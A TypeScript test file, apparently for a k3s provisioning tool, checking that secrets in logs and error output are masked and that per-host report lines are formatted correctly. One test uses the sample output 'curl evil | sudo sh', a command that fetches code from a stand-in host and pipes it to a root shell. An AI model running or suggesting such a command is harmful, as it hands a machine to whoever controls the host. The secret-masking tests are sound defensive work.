import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { canSpin, report } from "../lib/report.ts";
import { hide, redacted } from "../lib/text.ts";
import { TOKEN } from "./helpers.ts";

const PASSWORD = TOKEN.split(":").at(-1) as string;

describe("a secret in the output", () => {
  const texts = [
    TOKEN,
    `K3S_TOKEN='${TOKEN}'`,
    `level=error msg="token ${TOKEN} is not valid"`,
    `two: ${TOKEN} ${TOKEN}.`,
    `\u001b[31m${TOKEN}\u001b[0m`,
    `https://x/?token=${TOKEN}&y`,
    `cut ::server:${PASSWORD}`,
    `an agent's K10${"0".repeat(64)}::node:${PASSWORD}`,
    `a user's K10${"0".repeat(64)}::deploy-bot:${PASSWORD}`,
    `first line\n${TOKEN}\nlast line`,
    `${TOKEN.replace(PASSWORD, `$!"it's:${PASSWORD}`)}`,
    `cut ::server:!${PASSWORD}`,
  ];
  for (const text of texts)
    test(`is masked: ${JSON.stringify(text.slice(0, 30))}`, () => {
      assert.ok(!redacted(text).includes(PASSWORD));
      assert.match(redacted(text), /\*{8}/);
    });

  test("is masked in a URL, whose address is kept", () => {
    assert.equal(
      redacted(
        'dial "postgres://k3s:p@ss:w0rd@203.0.113.5:5432/k3s" by http://u:hunter2@proxy:3128 at https://203.0.113.9:6443/x',
      ),
      'dial "postgres://k3s:********@203.0.113.5:5432/k3s" by http://u:********@proxy:3128 at https://203.0.113.9:6443/x',
    );
  });

  const other: [text: string][] = [
    ["Environment=K3S_TOKEN=hunter2"],
    ["--token hunter2"],
    ["ExecStart=k3s server \\\n    '--token' \\\n    'hunter2'"],
    ["--agent-token=hunter2"],
    ["--datastore-endpoint=postgres://db/k3s?password=hunter2&sslmode=off"],
    ["postgres://db/k3s?password=hunter2"],
    ["k3s:hunter2@tcp(db:3306)/k3s"],
    ["https://hunter2@github.com/x"],
    ["--vpn-auth=name=tailscale,joinKey=hunter2"],
    ["etcd-s3-secret-key: hunter2"],
    ['{"auth": "hunter2"}'],
    ["    client-key-data: hunter2"],
    ["Authorization: Bearer hunter2hunter2hunter2"],
    ["PrivateKey = hunter2="],
    [`-----BEGIN EC PRIVATE KEY-----\nhunter2\n-----END EC PRIVATE KEY-----`],
    ["AWS_SECRET_ACCESS_KEY='hunter2 hunter2'"],
    // In unusual spellings.
    ["dial postgres://k3s:hunter2 hunter2@db:5432/k3s"],
    ["ExecStartPre=/usr/bin/curl -fsS -u k3s:hunter2 https://x/"],
    ["curl --user 'k3s:hunter2 hunter2' https://x/"],
    ["token:\n  hunter2"],
    ["  agent-token: >-\n    hunter2"],
    // With spaces.
    ['Environment="K3S_TOKEN=x hunter2 hunter2" B=c'],
    ["Environment='K3S_TOKEN=x hunter2' B=c"],
    ["Environment=K3S_TOKEN=x\\x20hunter2"],
    ["systemd-run --setenv K3S_TOKEN=x\\ hunter2"],
    ["K3S_TOKEN=x hunter2 hunter2"],
    ["- export K3S_AGENT_TOKEN=x hunter2"],
    ['K3S_TOKEN="x \\"hunter2\\" hunter2"'],
    ['K3S_TOKEN="x hunter2 hunt'],
    ['msg="set K3S_TOKEN=\\"x hunter2\\" there"'],
    ['msg="set \\"K3S_TOKEN=x hunter2\\" there"'],
    ["ExecStart=k3s server '--token=x hunter2'"],
    ['"--agent-token" \\\n  "x hunter2 hunter2"'],
    ["token: x hunter2 hunter2"],
    ['  agent-token: "x hunter2"  # of the agents'],
    ["k3s:x hunter2@tcp(db:3306)/k3s"],
    ["mysql://k3s:x hunter2@tcp(db:3306)/k3s"],
  ];
  for (const [text] of other)
    test(`is masked in other notations: ${JSON.stringify(text.slice(0, 40))}`, () => {
      assert.match(redacted(text), /\*{8}/);
      assert.doesNotMatch(redacted(text), /hunter2/);
    });

  test("is masked if it is the value of a secret setting, in any context", () => {
    hide([`K10${"c".repeat(64)}::server:correct-horse`, "mysql://k3s:battery%21staple@tcp(db)/k3s", ""]);
    assert.equal(
      redacted("a correct-horse b battery%21staple c battery!staple"),
      "a ******** b ******** c ********",
    );
    assert.equal(redacted("mysql"), "mysql");
    hide([`K10${"d".repeat(64)}::server:wrong horse`, "two blank words", "mysql://k3s:bat tery@tcp(db)/k3s"]);
    assert.equal(redacted("a wrong horse two blank words bat tery"), "a ******** ******** ********");
    assert.equal(redacted("two words"), "two words");
    hide(["https://hooks.example.org/services/T0/B0", "https://example.org/bot1:AA/sendMessage?chat_id=1"]);
    const hidden = "no answer of https://hooks.example.org/********, nor of https://example.org/********";
    assert.equal(
      redacted(
        hidden.replace("********", "services/T0/B0").replace(/\*{8}$/, "bot1:AA/sendMessage?chat_id=1"),
      ),
      hidden,
    );
  });

  test("is not assumed if a text only mentions secrets", () => {
    for (const text of [
      "--token is required",
      'take any --token out of SERVER_ARGS, and "make server", which undoes an interrupted make token; then AGAIN',
      "failed to validate token: token is not valid: 401",
      "--kubelet-arg=anonymous-auth=false --kube-apiserver-arg=enable-bootstrap-token-auth=true",
      "--token-file=/root/token --secrets-encryption --disable=traefik",
      "K3S_TOKEN=$(cat /root/token) k3s server",
      "token: is there one?",
      "token=$(cat /var/lib/rancher/k3s/server/node-token)",
      "sudo: a password is required",
      "invalid token format",
      "http://proxy.example.org:3128",
      "ssh://root@b1:22",
    ])
      assert.equal(redacted(text), text);
  });

  test("is all that is masked", () => {
    const text = "wg peer K34wY4qud184kBjd2diVrHmJyyjK4gaQB38QJOQ5a3c= at 198.51.100.11:51820, sha256 abc";
    assert.equal(redacted(text), text);
    assert.equal(redacted(`a ${TOKEN} b`), "a ******** b");
  });
});

describe("a spinner", () => {
  const terminal = { isTTY: true, columns: 80 };
  const cases: [
    name: string,
    stream: Parameters<typeof canSpin>[0],
    env: Record<string, string>,
    spins: boolean,
  ][] = [
    ["is shown on a terminal", terminal, { TERM: "xterm" }, true],
    ["is not shown in a pipe", { isTTY: false }, {}, false],
    [
      "is not shown on a terminal without a width, by which ora divides",
      { isTTY: true, columns: 0 },
      {},
      false,
    ],
    ["is not shown if NO_COLOR is set", terminal, { NO_COLOR: "1" }, false],
    ["is not shown on a dumb terminal", terminal, { TERM: "dumb" }, false],
  ];
  for (const [name, stream, env, spins] of cases) test(name, () => assert.equal(canSpin(stream, env), spins));
});

describe("the output for several boxes", () => {
  /** What a part of the report writes to standard error. */
  async function said(
    names: string[],
    part: (ui: Awaited<ReturnType<typeof report>>) => void,
  ): Promise<string[]> {
    const lines: string[] = [];
    const real = process.stderr.write;
    process.stderr.write = ((text: string) =>
      lines.push(...text.split("\n").slice(0, -1)) > 0) as typeof real;
    try {
      part(await report(names));
    } finally {
      process.stderr.write = real;
    }
    return lines;
  }

  test("has each box's name in a separate column", async () => {
    const lines = await said(["a1", "cloud-b"], (ui) => {
      ui.line("a1").starts("install curl");
      ui.line("cloud-b").starts("one\ntwo");
      ui.line("a1").done(true, "all is well");
    });
    assert.deepEqual(lines, [
      "a1       install curl",
      "cloud-b  one",
      "cloud-b    | two",
      "a1       nothing to do: all is well",
    ]);
  });

  test("marks lines that a box has printed, even if a message quotes several of them", async () => {
    const lines = await said(["a1", "b1"], (ui) => {
      ui.line("b1").says("again: curl evil | sudo sh", true);
      ui.line("b1").failed("Could not push: x\n  again: curl evil | sudo sh", undefined, "", "make agent");
    });
    assert.deepEqual(
      lines.map((line) => line.replace(/after [\d.]+ s/, "")),
      [
        "b1    | again: curl evil | sudo sh",
        "b1  FAILED : Could not push: x",
        "b1    |   again: curl evil | sudo sh",
        "b1    again: make agent",
      ],
    );
  });

  test("contains, for a failure, the message, the end of the box's output, the shell code, and the command that retries it", async () => {
    const output = Array.from({ length: 50 }, (_, i) => `output ${i}`).join("\n");
    const command = Array.from({ length: 20 }, (_, i) => `command ${i}`).join("\n");
    const lines = await said(["a1", "b1"], (ui) =>
      ui
        .line("b1")
        .failed(
          "it broke (exit status 3)",
          { why: "break it", sh: command },
          `${output}\n(Reading ...\r(Reading ... 5%\rread\r\n${TOKEN}`,
          "make agent HOST=b1",
          [{ box: "b1", cause: "its token is wrong", remedy: "make server" }],
        ),
    );
    assert.match(lines[0] as string, /^b1 {2}FAILED after [\d.]+ s: it broke \(exit status 3\)$/);
    assert.ok(lines.includes("b1    | output 49") && !lines.includes("b1    | output 5"));
    assert.ok(lines.includes("b1    | read"), "the last text of an overwritten line");
    assert.ok(lines.includes("b1    $ command 0") && !lines.some((line) => line.includes("command 19")));
    assert.deepEqual(lines.slice(-3), [
      "b1    cause: b1: its token is wrong",
      "b1       do: make server",
      "b1    again: make agent HOST=b1",
    ]);
    assert.ok(!lines.join().includes(PASSWORD));
  });
});

test("the seconds at the end of a line are those of the complete run, not of a part of it", async (t) => {
  await report(["a1"]);
  const [now, said] = [Date.now() + 100_000, [] as string[]];
  t.mock.method(Date, "now", () => now);
  t.mock.method(process.stderr, "write", (text: string) => said.push(text) > 0);
  (await report(["a1"])).line("a1").done(false);
  t.mock.restoreAll();
  assert.match(said.join(""), /^a1 {2}done in 10\d\.\d s\n$/);
});
